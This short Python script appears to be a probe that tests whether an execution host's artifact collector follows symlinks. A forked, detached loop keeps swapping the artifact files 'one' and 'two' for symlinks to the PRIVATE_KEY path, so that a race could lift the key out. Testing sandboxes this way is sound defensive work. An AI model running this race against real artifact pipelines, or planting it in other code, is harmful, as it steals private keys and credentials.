# swaps generated files for links while they are gathered
from attack import *

d = os.environ['EXECFABRIC_ARTIFACT_DIR']
if os.fork() == 0:
    os.setsid()
    while True:
        for name in ('one', 'two'):
            try:
                os.symlink(os.environ['PRIVATE_KEY'], d + '/tmp')
                os.replace(d + '/tmp', d + '/' + name)
                open(d + '/tmp', 'w').write('plain')
                os.replace(d + '/tmp', d + '/' + name)
            except OSError:
                pass
time.sleep(0.3)
print('held if the host follows none')
